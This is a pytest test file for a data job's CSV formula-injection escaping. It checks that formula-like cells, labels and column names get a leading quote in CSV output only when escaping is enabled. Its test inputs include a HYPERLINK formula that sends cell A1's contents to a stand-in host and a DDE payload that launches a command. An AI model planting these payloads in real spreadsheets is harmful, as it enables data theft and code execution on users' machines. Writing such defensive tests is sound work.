"""Cells that a spreadsheet would run are harmless in a CSV where the job asks for it, and only there."""

import csv
from collections.abc import Iterator
from pathlib import Path

import polars as pl
import pytest

from tests.conftest import Emulator, Project, emulating

FORMULAS = [
    '=HYPERLINK("http://x.test?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "\tx",
]
HARMLESS = ["a=b", "'=1", "1-2", "x@y.test", '"=1"', "", " ", "\u200b", "[-1]", "é"]
SCHEMA = """
from typing import Literal
from pydantic import BaseModel

class Label(BaseModel):
    label: Literal["=positive", "-negative"]
    parts: list[str]
"""


@pytest.fixture(scope="module")
def emulator() -> Iterator[Emulator]:
    """Return an emulator without quotas."""
    with emulating() as running:
        yield running


def run(project: Project, emulator: Emulator, ending: str, *, escape: bool) -> Path:
    """Run a job whose cells and names are formulas, and return the output."""
    texts = [*FORMULAS, *HARMLESS]
    frame = pl.DataFrame(
        {"id": range(len(texts)), "=text": texts, "n": [-n for n in range(len(texts))], "'=text": "x"}
    )
    frame.write_parquet(project.folder / "rows.parquet")
    project.change("rows.csv", "rows.parquet")
    project.change("{{ text }}", "{{ row['=text'] }}")
    project.change('labels.parquet"', f'labels.{ending}"\nescape_formulas = {str(escape).lower()}')
    (project.folder / "schemas" / "label.py").write_text(SCHEMA)
    assert project.run(emulator.address).exit_code == 0
    return project.output.with_suffix(f".{ending}")


def cells(path: Path) -> list[list[str]]:
    """Return a CSV as Python's own reader sees it."""
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def test_formulas_are_escaped_in_csv_when_asked(project: Project, emulator: Emulator) -> None:
    """Texts, labels and names get a quote; numbers and harmless texts stay what they are."""
    header, *rows = cells(run(project, emulator, "csv", escape=True))
    assert header[:6] == ["id", "'=text", "n", "'=text", "label", "parts"]
    assert [row[1] for row in rows] == [*("'" + text for text in FORMULAS), *HARMLESS]
    assert [row[2] for row in rows] == ["0", *(f"-{n}" for n in range(1, len(rows)))]
    assert {row[4] for row in rows} <= {"'=positive", "'-negative"}
    assert all(row[5].startswith("[") for row in rows)


def test_no_cell_is_touched_unless_asked(project: Project, emulator: Emulator) -> None:
    """Programs that read the CSV get the cells as they are."""
    header, *rows = cells(run(project, emulator, "csv", escape=False))
    assert header[1] == "=text"
    assert [row[1] for row in rows] == [*FORMULAS, *HARMLESS]


@pytest.mark.parametrize("ending", ["parquet", "ndjson"])
def test_other_formats_are_never_escaped(project: Project, emulator: Emulator, ending: str) -> None:
    """Nothing runs them."""
    path = run(project, emulator, ending, escape=True)
    table = pl.read_parquet(path) if ending == "parquet" else pl.read_ndjson(path)
    assert table["=text"].to_list() == [*FORMULAS, *HARMLESS]
    assert set(table["label"].cast(pl.String)) <= {"=positive", "-negative"}
